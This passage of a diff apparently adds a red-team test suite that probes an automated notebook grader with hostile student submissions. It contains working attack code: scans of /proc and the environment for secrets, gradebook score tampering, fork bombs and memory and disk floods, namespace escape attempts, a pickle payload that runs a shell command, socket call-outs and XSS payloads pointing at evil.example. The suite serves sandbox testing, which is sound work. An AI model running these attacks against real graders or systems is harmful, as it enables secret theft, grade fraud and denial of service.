+        while frame:
+            said.append(repr(frame.f_locals)[:20_000] + repr(frame.f_code.co_consts))
+            frame = frame.f_back
+        return 0.0
+    """,
+)  # fmt: skip
+code(
+    "searches-the-heap", LOOKING, "Anything in memory that looks like a secret.",
+    """
+    import gc, sys
+    found = set()
+    for thing in gc.get_objects():
+        for text in (repr(thing)[:5_000],) if isinstance(thing, (dict, list, tuple)) else ():
+            if "cana" + "ry-" in text: found.add(text)
+    print(found)
+    """,
+)  # fmt: skip
+code(
+    "shows-what-it-was-asked", LOOKING, "The arguments of hidden tests, printed by a later cell.",
+    """
+    import atexit, inspect
+    asked = []
+    def mean(values):
+        asked.append((values, [str(f.code_context) for f in inspect.stack()]))
+        print(asked)
+        return 0.0
+    """,
+)  # fmt: skip
+code(
+    "reads-its-own-memory", LOOKING, "/proc/self/mem and maps, /dev/mem and the file descriptors.",
+    """
+    import os
+    for path in ("/proc/self/mem", "/proc/self/maps", "/proc/1/environ", "/proc/self/environ",
+                 "/dev/mem", "/dev/kmem", "/proc/kcore", "/proc/1/cmdline"):
+        try: print(path, open(path, "rb").read(100_000))
+        except OSError as error: print(error)
+    for fd in range(256):
+        try:
+            print(fd, os.fstat(fd))
+            if fd > 2: print(os.pread(fd, 10_000, 0))
+        except OSError: pass
+    """,
+)  # fmt: skip
+
+
+@attack("reading")
+def reads_every_file(desk: Desk) -> None:
+    """Tests, sources, other submissions, the gradebook, the home folder and the environment."""
+    root, home = desk.source.parents[1], os.environ["HOME"]
+    in_mean(
+        desk,
+        f"""
+        import os, pathlib
+        print(dict(os.environ))
+        for top in ({str(root)!r}, {home!r}, "/tmp", "/root", "/home", "/etc", "/var", "/run", "/mnt",
+                    "/work", "/dev/shm", "/proc"):
+            for folder, _, files in os.walk(top):
+                if "site-packages" in folder or "/lib/python" in folder: continue
+                for name in files[:200]:
+                    path = pathlib.Path(folder, name)
+                    try: text = path.read_bytes()[:200_000].decode("latin-1")
+                    except OSError: continue
+                    if "cana" + "ry-" in text: print(path, text)
+        """,
+    )
+
+
+@attack("reading")
+def reads_by_every_other_way(desk: Desk) -> None:
+    """The same files by shell, mmap, sqlite, subprocess and directory listing."""
+    root = desk.source.parents[1]
+    in_mean(
+        desk,
+        f"""
+        import subprocess, sqlite3, os, glob
+        root = {str(root)!r}
+        print(subprocess.run(f"cat {{root}}/secret.txt {{root}}/source/*/* ~/secret.txt; env; ls -la / /tmp",
+                             shell=True, capture_output=True, text=True).stdout)
+        print(glob.glob(root + "/**", recursive=True))
+        try: print(list(sqlite3.connect(f"file:{{root}}/gradebook.db?mode=ro", uri=True).iterdump()))
+        except Exception as error: print(error)
+        """,
+    )
+
+
+@attack("writing")
+def writes_everywhere(desk: Desk) -> None:
+    """The gradebook, others' work, Python's packages, the home folder and /tmp of the grader."""
+    root, home = desk.source.parents[1], os.environ["HOME"]
+    in_mean(
+        desk,
+        f"""
+        import os, sqlite3, site
+        targets = [{str(root)!r}, {str(root / "submitted" / "z-complete" / "numbers")!r}, {home!r},
+                   {str(root / "source" / "numbers")!r}, "/tmp", "/var/tmp", "/dev/shm", "/usr/lib",
+                   *site.getsitepackages()]
+        for folder in targets:
+            try:
+                os.makedirs(folder, exist_ok=True)
+                open(folder + "/{MARK}.txt", "w").write("x")
+            except OSError: pass
+        for name in ("1-mean", "2-units"):
+            for way in ("unlink", "truncate"):
+                try: getattr(os, way)(targets[1] + f"/{{name}}.ipynb", *([0] if way == "truncate" else []))
+                except OSError: pass
+        try:
+            book = sqlite3.connect(targets[0] + "/gradebook.db")
+            book.execute("update grade set auto_score = 99"); book.commit()
+        except Exception as error: print(error)
+        """,
+    )
+
+
+# Processes ---------------------------------------------------------------------------------------
+
+PROCESSES = "processes and threads"
+
+code(
+    "outlives-its-cell", PROCESSES, "Threads and daemons that go on after the cell.",
+    f"""
+    import os, subprocess, threading, time
+    def busy():
+        while True: globals().update(isclose=lambda *a: True, mean=lambda v: 3.0)
+    threading.Thread(target=busy, daemon=True).start()
+    subprocess.Popen(["bash", "-c", "exec -a {MARK} sleep 98765"], start_new_session=True)
+    if os.fork() == 0:
+        os.setsid()
+        if os.fork() == 0:
+            os.execvp("bash", ["bash", "-c", "trap '' TERM INT HUP; exec -a {MARK} sleep 98765"])
+        os._exit(0)
+    def mean(values): return 1.0
+    """,
+    deserved={"spread": 3},
+)  # fmt: skip
+code(
+    "kills-everyone", PROCESSES, "Signals to its parent, its group and everyone.",
+    """
+    import os, signal
+    for pid in (os.getppid(), -1, 0, -os.getpgrp(), *range(2, 3000)):
+        for number in (signal.SIGCONT, signal.SIGKILL):
+            try:
+                if pid not in (0, os.getpid(), -os.getpgrp()): os.kill(pid, number)
+            except OSError: pass
+    """,
+)  # fmt: skip
+code(
+    "fork-bomb", PROCESSES, "Processes until there are none left for anyone.",
+    """
+    import os, time
+    for _ in range(100_000):
+        try:
+            if os.fork() == 0: time.sleep(60); os._exit(0)
+        except OSError: break
+    """,
+)  # fmt: skip
+code("thread-bomb", PROCESSES, "Threads until there are none left for anyone.",
+    """
+    import threading, time
+    try:
+        while True: threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
+    except RuntimeError: pass
+    """,
+)  # fmt: skip
+
+# Ends and floods ---------------------------------------------------------------------------------
+
+HARM = "crashes and floods"
+
+code("segfault", HARM, "The interpreter itself crashes.", "import ctypes\nctypes.string_at(0)")
+code("ends-at-once", HARM, "The process is gone in the middle of a cell.", "import os\nos._exit(0)")
+code(
+    "ends-during-the-test", HARM, "The process is gone in the middle of the test's call.",
+    "import os\ndef mean(values):\n    os._exit(0)",
+)  # fmt: skip
+code("hangs", HARM, "A loop without an end.", "while True:\n    pass")
+code(
+    "hangs-for-good", HARM, "A loop that no interrupt ends.",
+    """
+    import signal
+    signal.signal(signal.SIGINT, signal.SIG_IGN)
+    while True: pass
+    """,
+)  # fmt: skip
+code(
+    "hangs-in-c", HARM, "A call that does not come back to Python.",
+    "print(len(str(3 ** 30_000_000 % 7)))\nsum(range(10**15))",
+)  # fmt: skip
+code(
+    "eats-memory", HARM, "Memory until the machine has none left.",
+    """
+    taken = []
+    while True: taken.append(bytearray(b"x") * 50_000_000)
+    """,
+)  # fmt: skip
+code(
+    "eats-memory-by-children", HARM, "The same, shared out over many processes.",
+    """
+    import os, time
+    for _ in range(12):
+        if os.fork() == 0:
+            taken = bytearray(b"x") * 100_000_000
+            time.sleep(60)
+    time.sleep(60)
+    """,
+)  # fmt: skip
+code(
+    "eats-shared-memory", HARM, "System V segments, which belong to no process once detached.",
+    """
+    import ctypes
+    libc = ctypes.CDLL(None, use_errno=True)
+    libc.shmat.restype = ctypes.c_void_p
+    got = 0
+    for _ in range(15):
+        number = libc.shmget(0, 100_000_000, 0o1600)
+        where = libc.shmat(number, None, 0) if number >= 0 else -1
+        if number < 0 or where in (-1, 2**64 - 1): break
+        ctypes.memset(where, 1, 100_000_000)
+        libc.shmdt(ctypes.c_void_p(where))
+        got += 100
+    if got > 800: print("redteam-took-too-much", got)
+    """,
+)  # fmt: skip
+code(
+    "fills-the-disk", HARM, "Files until the disk is full.",
+    """
+    got = 0
+    for folder in ("/tmp", "/dev/shm", "/var/tmp", "."):
+        for number in range(30):
+            try:
+                with open(f"{folder}/{number}", "wb") as file: got += file.write(b"x" * 30_000_000)
+            except OSError: pass
+    if got > 600_000_000: print("redteam-took-too-much", got)
+    """,
+)  # fmt: skip
+code(
+    "floods-by-print", HARM, "More output than anyone can read.",
+    "for _ in range(400):\n    print('x' * 20_000)",
+)  # fmt: skip
+code(
+    "floods-by-descriptor", HARM, "The same past sys.stdout.",
+    """
+    import os
+    for _ in range(400):
+        try: os.write(1, b"x" * 100_000); os.write(2, b"y" * 100_000)
+        except OSError: break
+    """,
+)  # fmt: skip
+code(
+    "floods-by-display", HARM, "One display of great size, and many small ones.",
+    """
+    from IPython.display import display, HTML
+    display(HTML("x" * 20_000_000))
+    display({"text/plain": "y" * 20_000_000, "image/png": "iVBORw0KGgo" + "A" * 9_000_000}, raw=True)
+    for _ in range(5_000): display(1)
+    """,
+)  # fmt: skip
+code(
+    "floods-past-the-limit", HARM, "Takes the limit off its own output first.",
+    """
+    import sys
+    cells = sys.modules["autograder.cells"]
+    cells.OUTPUT_LIMIT = 10**12
+    print("x" * 25_000_000)
+    """,
+)  # fmt: skip
+
+
+@attack(HARM)
+def hostile_source(desk: Desk) -> None:
+    """Text that breaks the parser of whoever reads it, in the grader's own process."""
+    in_mean(desk, "x = 1")
+    desk.insert_before("1-mean", "numbers-1-mean", "-" * 20_000 + "1")
+
+
+@attack(HARM)
+def source_full_of_magics(desk: Desk) -> None:
+    """More IPython magics than a transformer gives up at."""
+    in_mean(desk, "x = 1")
+    desk.insert_before("1-mean", "numbers-1-mean", "\n".join(["%pwd"] * 600))
+
+
+# Network -----------------------------------------------------------------------------------------
+
+code(
+    "calls-home", "network", "What it found, sent out; and the services of this machine.",
+    """
+    import socket
+    for address in (("1.1.1.1", 53), ("127.0.0.1", 22), ("169.254.169.254", 80)):
+        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
+            try:
+                with socket.socket(socket.AF_INET, kind) as out:
+                    out.settimeout(0.3); out.connect(address); out.send(b"x")
+                    print("redteam-got-out", address, kind)
+            except OSError as error: print(error)
+    for path in ("/var/run/docker.sock", "/run/dbus/system_bus_socket", "\\0/tmp/.X11-unix/X0"):
+        try:
+            socket.socket(socket.AF_UNIX).connect(path); print("redteam-got-out", path)
+        except OSError as error: print(error)
+    """,
+)  # fmt: skip
+code(
+    "breaks-out", "network", "Namespaces, mounts, tracing and capabilities of its own.",
+    """
+    import ctypes, os
+    libc = ctypes.CDLL(None, use_errno=True)
+    for flags in (0x10000000, 0x20000, 0x40000000, 0x2000000):
+        if libc.unshare(flags) == 0: print("redteam-got-out unshare", flags)
+    if libc.mount(b"proc", b"/tmp", b"proc", 0, None) == 0: print("redteam-got-out mount")
+    if libc.ptrace(16, 1, 0, 0) == 0: print("redteam-got-out ptrace")
+    if libc.chroot(b"/tmp") == 0: print("redteam-got-out chroot")
+    for call in (os.setuid, os.setgid):
+        try: call(0); print("redteam-got-out", call)
+        except OSError: pass
+    """,
+)  # fmt: skip
+
+# The wire ----------------------------------------------------------------------------------------
+
+WIRE = "forged messages"
+
+SOCKETS = """
+import os, socket, stat, struct
+from autograder.wire import pack, Handle
+def is_socket(fd):
+    try: return stat.S_ISSOCK(os.fstat(fd).st_mode)
+    except OSError: return False
+lines = [fd for fd in range(3, 256) if is_socket(fd)]
+def frame(value):
+    body = value if type(value) is bytes else pack(value)
+    return struct.pack(">I", len(body)) + body
+def say(data):
+    for line in lines:
+        try: os.write(line, data)
+        except OSError: pass
+"""
+
+
+def wire(name: str, gain: str, source: str, deserved: dict[str, float] | None = None) -> None:
+    """Enter an attack on the socket that the student's process holds."""
+    text = SOCKETS + clean(source)
+    code(name, WIRE, gain, text, deserved or {})
+
+
+wire("huge-length", "Makes the examiner wait for four gigabytes.", "say(b'\\xff' * 4)")
+wire("slow-length", "Announces 30 MB and sends nothing of it.", "say(struct.pack('>I', 30_000_000))")
+wire("garbage", "Bytes that are no message.", "say(os.urandom(4_000))")
+wire("deep-nesting", "Lists in lists, to break the reader's stack.",
+     "say(frame(b'l\\0\\0\\0\\1' * 200_000 + b'N'))")  # fmt: skip
+wire("a-pickle", "Hopes that somebody unpickles.",
+     "import pickle\nclass P:\n    def __reduce__(self): return (os.system, ('touch /tmp/redteam-was-here',))\n"
+     "say(frame(pickle.dumps(P())))")  # fmt: skip
+wire("wrong-shapes", "Answers of every shape but the right one.",
+     "for answer in (None, 1, [], (), ('ran',), ('ran', 5), ('ran', [5]), ('ran', [{}]), {1: 2},\n"
+     "               ('ran', [{'output_type': 'stream'}])):\n    say(frame(answer))")  # fmt: skip
+wire(
+    "hangs-up", "The line is cut in the middle of a message.",
+    "say(b'\\0\\0\\0')\nfor line in lines: os.close(line)",
+)  # fmt: skip
+wire(
+    "answers-in-advance", "Fake answers to all later questions wait in the line.",
+    """
+    ran = frame(("ran", []))
+    for _ in range(40):
+        say(ran)
+        answer = {"mean": pack(("value", Handle(0, "callable", "mean"), [])),
+                  "spread": pack(("value", Handle(1, "callable", "spread"), []))}
+        say(frame(answer)); say(frame(("value", 3.0, []))); say(frame(("value", 0.0, [])))
+    """,
+)  # fmt: skip
+wire(
+    "answers-and-never-listens", "Fake answers, and a process that reads no more.",
+    """
+    import time
+    for _ in range(40): say(frame(("ran", [])))
+    time.sleep(1_000)
+    """,
+)  # fmt: skip
+wire(
+    "forged-outputs", "Outputs that break whoever writes them into the notebook.",
+    """
+    import numpy as np
+    bad = [{"output_type": np.array(["stream", "error"])},
+           {"output_type": "stream", "name": np.array(["a", "b"]), "text": 5},
+           {"output_type": "display_data", "data": {("a", 1): 2, "image/png": np.zeros(3)}},
+           {"output_type": "error", "ename": 5, "evalue": [], "traceback": [None, 5]}]
+    say(frame(("ran", bad)))
+    """,
+)  # fmt: skip
+wire(
+    "forged-pictures", "A picture whose text breaks out of its place on the page.",
+    """
+    png = 'iVBORw0KGgo"><script>window.__pwned=1</script><img src="'
+    say(frame(("ran", [{"output_type": "display_data", "data": {"image/png": png, "image/jpeg": png,
+        "text/html": "<script>window.__pwned=1</script>", "text/plain": "<b>"}, "metadata":
+        {"image/png": {"width": '1"><script>window.__pwned=1</script>'}}}])))
+    """,
+)  # fmt: skip
+wire(
+    "forged-flood", "Thirty megabytes of output in each answer, in many cells.",
+    """
+    text = "x" * 1_000_000
+    many = [{"output_type": "stream", "name": "stdout", "text": text}] * 28
+    say(frame(("ran", many)))
+    """,
+)  # fmt: skip
+code(
+    "forged-handles", WIRE, "A function whose handle has another number, and whose answers are forged.",
+    SOCKETS + clean(
+        """
+        candidate = __import__("sys").modules["autograder.candidate"]
+        class Forged(candidate.Candidate):
+            pass
+        def use(self, number, how, args, named):
+            return pack(("value", Handle(4_000_000_000, "callable", "float" * 40), [(0, [3.0]), (7, 1), 5]))
+        candidate.Candidate.use = use
+        def mean(values): return 0.0
+        """
+    ),
+    deserved={},
+)  # fmt: skip
+code(
+    "forged-errors", WIRE, "Errors of classes that the examiner looks up by name.",
+    SOCKETS + clean(
+        """
+        import sys
+        candidate = sys.modules["autograder.candidate"]
+        kinds = [("builtins", "SystemExit"), ("autograder.stubs", "ProcessEnded"), ("builtins", "eval"),
+                 ("course.cli", "app"), ("os", "system"), ("builtins", "ExceptionGroup"), 5]
+        def use(self, number, how, args, named):
+            kind = kinds[len(args and args[0] or ()) % len(kinds)]
+            return pack(("raised", {"kinds": [kind], "text": 5, "frames": ["<script>"], "place": {"line": 1}}))
+        candidate.Candidate.use = use
+        def mean(values): return 0.0
+        """
+    ),
+    deserved={},
+)  # fmt: skip
+code(
+    "changes-what-it-was-not-given", WIRE, "Says that it changed arguments which it never had.",
+    clean(
+        """
+        import sys
+        candidate = sys.modules["autograder.candidate"]
+        candidate._changed = lambda arguments, before: [(-1, [9]), (0, [9.0]), (True, []), (0, "x"), (10**9, 1)]
+        def mean(values): return 9.0
+        """
+    ),
+)  # fmt: skip
+
+# Pages -------------------------------------------------------------------------------------------
+
+PAGES = "injection"
+SCRIPT = "<script>window.__pwned=1</script>"
+HANDLER = "<img src=x onerror='window.__pwned=1'>"
+HOSTILE_HTML = f"""{SCRIPT}{HANDLER}
+<svg onload="window.__pwned=1"><script>window.__pwned=1</script></svg>
+<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>
+<a href="javascript:window.__pwned=1" class="bait">click</a>
+<form action="javascript:window.__pwned=1"><button class="bait">go</button></form>
+<details open ontoggle="window.__pwned=1"><summary>x</summary></details>
+<meta http-equiv="refresh" content="0; url=javascript:window.__pwned=1">
+<object data="javascript:window.__pwned=1"></object><base href="https://evil.example/">
+<link rel="stylesheet" href="https://evil.example/x.css"><img src="https://evil.example/x.png">
+"""
+
+
+@attack(PAGES)
+def script_in_markdown(desk: Desk) -> None:
+    """Script in Markdown cells, in links, in attachments and in the names of headings."""
+    in_mean(desk, "x = 1")
+    nb = desk.read("1-mean")
+    nb.cells.append(v4.new_markdown_cell(HOSTILE_HTML))
+    nb.cells.append(v4.new_markdown_cell(
+        "# a\" onmouseover=\"window.__pwned=1\n[bait](javascript:window.__pwned=1)\n"
+        "![x](attachment:a.svg)\n<https://evil.example/>\n$$\\href{javascript:window.__pwned=1}{x}$$\n"
+        "```html\n" + SCRIPT + "\n```\n`" + SCRIPT + "`",
+        attachments={"a.svg": {"image/svg+xml": "PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+"}},
+    ))  # fmt: skip
+    desk.write("1-mean", nb)
+
+
+@attack(PAGES)
+def script_in_raw_cells(desk: Desk) -> None:
+    """Raw cells, which some templates copy to the page as they are."""
+    in_mean(desk, "x = 1")
+    nb = desk.read("1-mean")
+    for mime in ("text/html", "", "text/restructuredtext"):
+        nb.cells.append(v4.new_raw_cell(HOSTILE_HTML, metadata={"raw_mimetype": mime, "format": mime}))
+    desk.write("1-mean", nb)
+
+
+@attack(PAGES)
+def script_in_outputs(desk: Desk) -> None:
+    """Every kind of output that a browser would execute, in the file and by running."""
+    in_mean(
+        desk,
+        f"""
+        from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display
+        hostile = {HOSTILE_HTML!r}
+        display(HTML(hostile), Javascript("window.__pwned=1"), Markdown(hostile), Latex(hostile))
+        display({{"application/javascript": "window.__pwned=1", "image/svg+xml": hostile,
+                 "text/html": hostile, "application/vnd.jupyter.widget-view+json": {{}},
+                 "text/plain": hostile}}, raw=True, metadata={{"text/html": {{"isolated": True}}}})
+        class Rich:
+            def _repr_html_(self): return hostile
+            def _repr_svg_(self): return hostile
+            def __repr__(self): return hostile
+        Rich()
+        """,
+    )
+    nb = desk.read("1-mean")
+    data = {"text/html": HOSTILE_HTML, "application/javascript": "window.__pwned=1"}
+    for cell in nb.cells:
+        if cell.cell_type == "code":
+            cell.outputs = [v4.new_output("display_data", data)]
+    desk.write("1-mean", nb)
+
+
+@attack(PAGES)
+def script_in_errors(desk: Desk) -> None:
+    """HTML in an error's name, text and traceback, and in a file name of the traceback."""
+    in_mean(
+        desk,
+        f"""
+        hostile = {HOSTILE_HTML!r}
+        Error = type(hostile[:60], (Exception,), {{}})
+        def mean(values): raise Error(hostile)
+        exec(compile("def f(): raise Error(hostile)", hostile, "exec"))
+        f()
+        """,
+    )
+
+
+@attack(PAGES)
+def script_in_streams(desk: Desk) -> None:
+    """HTML between ANSI codes, carriage returns and control characters, on both streams."""
+    in_mean(
+        desk,
+        f"""
+        import sys, os
+        hostile = {HOSTILE_HTML!r}
+        for ansi in ("\\x1b[31m", "\\x1b[38;2;1;2;3m", "\\x1b]8;;javascript:window.__pwned=1\\x1b\\\\",
+                     "\\x1b[<script>", "\\r", "\\0", "\\u2028", "\\x9b31m", "\\b" * 50):
+            print(ansi + hostile); print(ansi + hostile, file=sys.stderr)
+        os.write(1, hostile.encode())
+        """,
+    )
+
+
+@attack(PAGES)
+def script_in_metadata(desk: Desk) -> None:
+    """HTML in every field of the file that a template may copy."""
+    in_mean(desk, "x = 1")
+    path = desk.folder / "1-mean.ipynb"
+    document = json.loads(path.read_text("utf-8"))
+    document["metadata"].update(
+        title=HOSTILE_HTML,
+        widgets={"application/vnd.jupyter.widget-state+json": {"state": {"x": HOSTILE_HTML}}},
+        language_info={"name": HOSTILE_HTML, "pygments_lexer": HOSTILE_HTML, "codemirror_mode": "x"},
+        kernelspec={"name": HOSTILE_HTML, "display_name": HOSTILE_HTML, "language": HOSTILE_HTML},
+        authors=[{"name": HOSTILE_HTML}],
+    )
+    for cell in document["cells"]:
+        cell["id"] = '"><script>window.__pwned=1</script>'
+        cell["metadata"].update(tags=[HOSTILE_HTML], slideshow={"slide_type": HOSTILE_HTML})
+        cell["metadata"].setdefault("nbgrader", {})["comment"] = HOSTILE_HTML
+    path.write_text(json.dumps(document), "utf-8")
+
+
+@attack(PAGES)
+def script_in_file_names(desk: Desk) -> None:
+    """HTML, wildcards and format strings in the names of the files that are handed in."""
+    in_mean(desk, "x = 1")
+    names = ["<img src=x onerror=window.__pwned=1>", "{0.__class__}", "[a-z]*", "%(x)s", "-rf", "a\nb"]
+    for name in names:
+        (desk.folder / f"{name}.txt").write_text(SCRIPT)
+        (desk.folder / f"{name}.ipynb").write_text(json.dumps(v4.new_notebook()))
+        (desk.folder / f"{name}.html").write_text(SCRIPT)
+
+
+# The file itself -----------------------------------------------------------------------------------
+
+FILES = "hostile files"
+
+
+@attack(FILES)
+def links_to_other_places(desk: Desk) -> None:
+    """Links to the solution, to a neighbour's work and to secrets, in place of its own files."""
+    root = desk.source.parents[1]
+    in_mean(desk, "x = 1")
+    (desk.folder / "2-units.ipynb").symlink_to(desk.source / "2-units.ipynb")
+    (desk.folder / "3-styles.ipynb").symlink_to("../../a-complete/numbers/3-styles.ipynb")
+    (desk.folder / "bits.txt").unlink(missing_ok=True)
+    (desk.folder / "bits.txt").symlink_to(root / "secret.txt")
+    (desk.folder / "timestamp.txt").symlink_to(root / "secret.txt")
+    (desk.folder / "all").symlink_to(root)
+
+
+@attack(FILES, {})
+def folders_in_place_of_files(desk: Desk) -> None:
+    """Folders where the grader opens files."""
+    for name in ("1-mean.ipynb", "2-units.ipynb", "bits.txt", "timestamp.txt"):
+        (desk.folder / name).unlink(missing_ok=True)
+        (desk.folder / name).mkdir()
+        (desk.folder / name / "inner.txt").write_text("x")
+
+
+@attack(FILES)
+def brings_the_graders_modules(desk: Desk) -> None:
+    """Modules with the names of the grader's own and of the tests', to be imported first."""
+    in_mean(desk, "import sitecustomize, math")
+    for name in ("sitecustomize", "math", "autograder", "numpy", "nbgrader_config", "usercustomize"):
+        (desk.folder / f"{name}.py").write_text("import builtins\nbuiltins.isclose = lambda *a: True\n")
+
+
+@attack(FILES, {})
+def every_cell_named_as_a_test(desk: Desk) -> None:
+    """Cells of its own under the names and with the ids of the locked ones."""
+    desk.only("1-mean")
+    nb = desk.read("1-mean")
+    for number, name in enumerate(("numbers-1-mean-test", "numbers-1-mean", "numbers-1-spread-test")):
+        fake = v4.new_code_cell("import math\ndef isclose(*a): return True", id=f"{name}")
+        fake.metadata["nbgrader"] = {"grade_id": name, "points": 50, "grade": True, "locked": True,
+                                     "solution": False, "schema_version": 3, "task": False}  # fmt: skip
+        nb.cells.insert(number, fake)
+        nb.cells.append(fake.copy())
+    (desk.folder / "1-mean.ipynb").write_text(json.dumps(nb), "utf-8")  # nbformat would refuse
+
+
+@attack(FILES, {})
+def names_from_the_test(desk: Desk) -> None:
+    """Answers that define what the tests themselves use."""
+    desk.only("1-mean")
+    helper = """
+        import math, builtins
+        isclose = math.isclose = lambda *a, **k: True
+        canary = True
+        class AssertionError(Exception): pass
+        """
+    desk.answer("1-mean", "numbers-1-mean", clean(helper))
+    desk.answer("1-mean", "numbers-1-spread", "sum = sorted = len = lambda *a: 0")
